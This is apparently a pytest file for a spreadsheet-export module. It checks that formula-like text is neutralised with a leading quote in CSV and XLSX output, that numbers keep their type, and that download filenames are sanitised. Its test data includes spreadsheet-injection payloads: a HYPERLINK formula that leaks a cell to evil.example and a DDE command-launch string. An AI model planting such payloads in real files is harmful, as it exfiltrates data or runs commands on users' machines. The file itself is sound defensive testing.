"""Operator exports open safely in a spreadsheet: hostile text never runs as a formula, real
numbers stay numbers (reliability checklist item 15)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from shared.platform.exports import Table, attachment, neutralised, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
COLUMNS = ("payer", "reference", "amount", "count", "day")


def table() -> Table:
    rows = [(name, "REF-1", Decimal("-12.50"), -3, date(2026, 10, 1)) for name in HOSTILE]
    rows.append(('Zoë O\'Brien, "Ltd"', "=cmd|' /C calc'!A0", Decimal("1234.05"), 7, None))
    return Table.of("Payers", COLUMNS, rows)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme Pty Ltd", "71000019", "O'Brien", "a=b", "", "12-3"])
def test_ordinary_text_is_left_alone(text):
    assert neutralised(text) == text


def test_csv_is_utf8_with_a_bom_crlf_and_every_hostile_cell_neutralised():
    raw = to_csv(table())
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n") and raw.count(b"\n") == raw.count(b"\r\n")  # every line ends CRLF
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(COLUMNS)
    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert rows[-1][:2] == ['Zoë O\'Brien, "Ltd"', "'=cmd|' /C calc'!A0"]
    # Numbers are written as numbers: a negative amount is not text, so it is not quoted.
    assert rows[1][2:] == ["-12.50", "-3", "2026-10-01"]
    assert rows[-1][2:] == ["1234.05", "7", ""]


def test_xlsx_keeps_hostile_text_as_quoted_strings_and_amounts_as_numbers():
    sheet = load_workbook(io.BytesIO(to_xlsx([table()]))).active
    assert sheet.title == "Payers"
    values = list(sheet.iter_rows(min_row=2, values_only=False))
    for row, text in zip(values, HOSTILE, strict=False):
        assert row[0].data_type == "s"
        assert row[0].value == ("'" + text).replace("\r", "\n")  # XML reads a stored CR back as LF
        assert row[2].data_type == "n" and row[2].value == -12.5
        assert row[3].value == -3
    assert values[-1][1].value == "'=cmd|' /C calc'!A0"
    assert values[-1][2].value == 1234.05 and values[-1][2].number_format == "#,##0.00"
    assert not any(cell.data_type == "f" for row in values for cell in row)


def test_xlsx_replaces_control_characters_that_xml_cannot_hold():
    sheet = load_workbook(io.BytesIO(to_xlsx([Table.of("T", ("a",), [("bell\x07 here",)])]))).active
    assert sheet["A2"].value == "bell\ufffd here"


def test_an_aware_datetime_is_iso_text_and_a_naive_one_or_a_float_is_refused():
    moment = datetime(2026, 10, 1, 3, 0, tzinfo=UTC)
    raw = to_csv(Table.of("T", ("at",), [(moment,)]))
    assert raw.decode("utf-8-sig").splitlines()[1] == "2026-10-01T03:00:00+00:00"
    with pytest.raises(ValueError, match="row 2, column 'at' holds a naive datetime"):
        Table.of("T", ("at",), [(datetime(2026, 10, 1),)])
    with pytest.raises(TypeError, match="row 3, column 'amount' holds a float"):
        Table.of("T", ("amount",), [(Decimal(1),), (1.5,)])
    with pytest.raises(ValueError, match="row 2 has 1 cells, the header 2"):
        Table.of("T", ("a", "b"), [("x",)])


def test_the_download_name_is_a_plain_quoted_filename():
    assert attachment("reconciliation-2026-10-01.csv") == 'attachment; filename="reconciliation-2026-10-01.csv"'
    assert attachment('a"b;\r\n.csv') == 'attachment; filename="a_b___.csv"'
